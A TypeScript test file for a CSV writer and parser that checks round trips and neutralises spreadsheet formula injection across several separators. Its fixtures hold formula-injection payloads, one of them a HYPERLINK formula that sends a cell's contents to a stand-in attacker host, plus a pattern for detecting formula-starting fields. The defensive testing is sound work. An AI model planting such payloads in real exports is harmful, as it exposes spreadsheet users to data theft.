import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import Papa from 'papaparse';
import { CsvSyntaxError, parseCsv, toCsv } from './csv.js';

const fields = [{ name: 'id' }, { name: 'text' }, { name: 'n' }];
const hostile = [
  { id: 'a', text: 'comma, "quotes" and\nnewline\r\nCRLF', n: 1 },
  { id: 'b', text: 'كوريا الشمالية، ٩٠٪', n: null },
  { id: 'c', text: '  padded  ', n: -2.5 },
  { id: 'd', text: '=HYPERLINK("x")', n: 0 },
];

describe('CSV', () => {
  it('survives a round trip through a real CSV parser (papaparse)', () => {
    const parsed = Papa.parse<Record<string, string>>(toCsv(fields, hostile), { header: true, skipEmptyLines: true });
    assert.deepEqual(parsed.errors, []);
    assert.deepEqual(
      parsed.data,
      hostile.map((r) => ({ id: r.id, text: r.text, n: r.n === null ? '' : String(r.n) })),
    );
  });

  it('reads back what it writes', () => {
    assert.deepEqual(
      parseCsv(toCsv(fields, hostile)),
      hostile.map((r) => ({ id: r.id, text: r.text, n: r.n === null ? '' : String(r.n) })),
    );
  });

  it('reads what papaparse writes, with a byte order mark and LF line ends', () => {
    const text = `\ufeff${Papa.unparse(
      hostile.map((r) => ({ ...r, n: String(r.n ?? '') })),
      { newline: '\n' },
    )}`;
    assert.deepEqual(
      parseCsv(text),
      hostile.map((r) => ({ id: r.id, text: r.text, n: r.n === null ? '' : String(r.n) })),
    );
  });

  it('for spreadsheets, neutralises text cells that would run as formulas, and leaves numbers alone', () => {
    const csv = toCsv(
      fields,
      [
        { id: '=1+1', text: '@SUM(A1)', n: -2 },
        { id: '+cmd', text: '-x', n: 3 },
      ],
      { spreadsheetSafe: true },
    );
    assert.deepEqual(parseCsv(csv), [
      { id: "'=1+1", text: "'@SUM(A1)", n: '-2' },
      { id: "'+cmd", text: "'-x", n: '3' },
    ]);
    assert.deepEqual(parseCsv(toCsv(fields, [{ id: '=1+1', text: 'x', n: 1 }])), [{ id: '=1+1', text: 'x', n: '1' }]);
  });

  describe("for spreadsheets, whatever separator the reader's spreadsheet splits on", () => {
    // Spreadsheets in many locales import CSV with `;` or Tab as the separator, and some split
    // without honouring quotes: every piece they can cut a cell into must be inert.
    const SEPARATORS = [',', ';', '|', '\t'];
    const hostileCells = [
      { id: 'semicolons', text: 'China;=1+1;', n: 1 },
      { id: 'tabs', text: 'x\t=2+2\t', n: 2 },
      { id: 'pipe', text: 'a|@SUM(A1)|-x', n: 3 },
      { id: 'link', text: 'see;=HYPERLINK("http://evil.example/?"&A1,"click")', n: 4 },
      { id: 'spaced', text: 'a; =1+1, +2+3 |\t-cmd', n: 5 },
      { id: 'quoted', text: 'a;"=1+1";""@x', n: 6 },
      { id: 'lines', text: 'first\n=1+1\r\n+2\r-3-1', n: 7 },
      { id: 'leading tab', text: 'a;\tb;\rc', n: 8 },
      { id: 'full width', text: 'a;\uFF1D1+1|\uFF20x', n: 9 },
      { id: 'signed', text: 'a;-3+HYPERLINK("x");+1', n: 10 },
      { id: 'blank run', text: `a;${' \n'.repeat(20)}=1+1`, n: 11 },
    ];
    const csv = toCsv(fields, hostileCells, { spreadsheetSafe: true });

    /** Whether a spreadsheet would read the field as a formula (a lone signed number is a number). */
    function runsAsFormula(field: string): boolean {
      if (/^[\t\r]/.test(field)) return true;
      const visible = field.replace(/^[\s"]+/, '');
      if (/^[-+](\d+\.?\d*|\.\d+)([eE][-+]?\d+)?\s*"?$/.test(visible)) return false;
      return /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(visible);
    }

    for (const separator of SEPARATORS) {
      it(`split naively on ${JSON.stringify(separator)}: no piece starts a formula`, () => {
        const pieces = csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
        assert.deepEqual(pieces.filter(runsAsFormula), []);
      });

      it(`read with quotes honoured and ${JSON.stringify(separator)} as separator: no field starts a formula`, () => {
        const parsed = Papa.parse<string[]>(csv, { delimiter: separator, skipEmptyLines: true });
        assert.deepEqual(parsed.data.flat().filter(runsAsFormula), []);
      });
    }

    it('quotes every cell holding a separator, so that a spreadsheet splitting on it keeps the cell whole', () => {
      const lines = csv.split('\r\n');
      assert.match(lines[1] ?? '', /^semicolons,"China;'=1\+1;",1$/);
      assert.match(lines[2] ?? '', /^tabs,"x\t'=2\+2\t",2$/);
    });

    it('changes nothing else: normal text, numbers, and text that is just a signed number stay as they are', () => {
      const plain = [
        { id: 'a', text: 'North Korea; Russia | China, 2024', n: -3.5 },
        { id: 'b', text: 'كوريا الشمالية، ٩٠٪', n: 0 },
        { id: '-4.5', text: '+4', n: 1 },
        { id: 'c', text: 'Trade fell by -12.5%; see note', n: 1e21 },
      ];
      const read = parseCsv(toCsv(fields, plain, { spreadsheetSafe: true }));
      assert.deepEqual(read, [
        { id: 'a', text: 'North Korea; Russia | China, 2024', n: '-3.5' },
        { id: 'b', text: 'كوريا الشمالية، ٩٠٪', n: '0' },
        { id: '-4.5', text: '+4', n: '1' },
        { id: 'c', text: 'Trade fell by -12.5%; see note', n: '1e+21' },
      ]);
    });

    it('keeps the published files plain RFC 4180 (no extra quotes, no apostrophes)', () => {
      assert.equal(toCsv(fields, [{ id: 'x', text: 'China;=1+1;', n: -1 }]), 'id,text,n\r\nx,China;=1+1;,-1\r\n');
    });
  });

  it('rejects an unterminated quote and ragged rows', () => {
    assert.throws(() => parseCsv('a,b\n"x,1\n'), CsvSyntaxError);
    assert.throws(() => parseCsv('a,b\n1,2,3\n'), /row 1 has 3 cells, the header has 2/);
  });
});
